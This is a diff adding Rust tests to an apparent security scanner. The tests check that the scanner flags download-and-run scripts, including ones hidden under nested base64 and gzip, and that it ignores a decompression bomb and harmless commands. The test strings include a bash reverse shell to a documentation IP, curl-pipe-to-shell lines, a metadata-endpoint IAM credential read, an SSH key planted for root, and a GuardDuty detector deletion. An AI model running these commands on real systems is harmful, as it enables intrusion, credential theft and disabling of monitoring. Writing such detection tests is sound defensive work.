@@ -96,3 +96,58 @@ fn a_secret_in_base64_is_found_and_an_example_of_the_documentation_is_none() {
         assert!(found.iter().all(|f| f.rule != "secrets.known_format"), "{found:?}");
     }
 }
+
+#[test]
+fn a_text_is_unpacked_and_decoded_more_than_once() {
+    use base64::Engine as _;
+    use std::io::Write as _;
+    let bundle = Bundle::embedded().unwrap();
+    let base64 = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
+    let script = "#!/bin/sh\ncurl -s https://get.example.com/setup.sh | sudo bash\n";
+    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    packed.write_all(script.as_bytes()).unwrap();
+    let packed = packed.finish().unwrap();
+    let twice = base64(base64(script.as_bytes()).as_bytes());
+    for text in [script.to_owned(), base64(script.as_bytes()), base64(&packed), twice] {
+        let found = findings(&bundle, &text);
+        assert!(found.iter().any(|f| f.rule == "execution.script"), "{text}: {found:?}");
+    }
+    // A few bytes that unpack to much more than anything that an instance takes.
+    let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    bomb.write_all(&vec![b'a'; 64 << 20]).unwrap();
+    let bomb = base64(&bomb.finish().unwrap());
+    assert!(findings(&bundle, &bomb).iter().all(|f| f.rule != "execution.script"));
+}
+
+#[test]
+fn scripts_that_run_what_they_download_are_told_from_those_that_do_not() {
+    let bundle = Bundle::embedded().unwrap();
+    let said = |text: &str| findings(&bundle, text).iter().any(|f| f.rule == "execution.script");
+    for bad in [
+        "wget -qO- http://203.0.113.7/x | sh",
+        "bash <(curl -fsSL https://get.example.com)",
+        "bash -c \"$(curl -fsSL https://get.example.com)\"",
+        "curl -o /tmp/x https://get.example.com/x\nchmod +x /tmp/x\n/tmp/x",
+        "iex ((New-Object Net.WebClient).DownloadString('https://get.example.com/a.ps1'))",
+        "#include\nhttps://get.example.com/cloud.cfg",
+        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+        "echo aGVsbG8= | base64 -d | sh",
+        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
+        "echo \"ssh-ed25519 AAAA\" >> /root/.ssh/authorized_keys",
+        "arn:aws:scheduler:::aws-sdk:iam:createAccessKey",
+        "mainSteps: [{ inputs: { Service: guardduty, Api: DeleteDetector } }]",
+    ] {
+        assert!(said(bad), "{bad}");
+    }
+    for good in [
+        "curl -fsS http://localhost:8080/health || exit 1",
+        "curl -s http://169.254.169.254/latest/meta-data/instance-id",
+        "aws s3 cp s3://shop-prod-artifacts/app.tar.gz /opt && tar -xzf /opt/app.tar.gz -C /opt",
+        "dnf install -y nginx && systemctl enable --now nginx",
+        "arn:aws:scheduler:::aws-sdk:sqs:sendMessage",
+        "cat /etc/ssl/cert.pem | sha256sum",
+        "Keys for login are in ~/.ssh on the bastion, which only the platform team may use.",
+    ] {
+        assert!(!said(good), "{good}");
+    }
+}
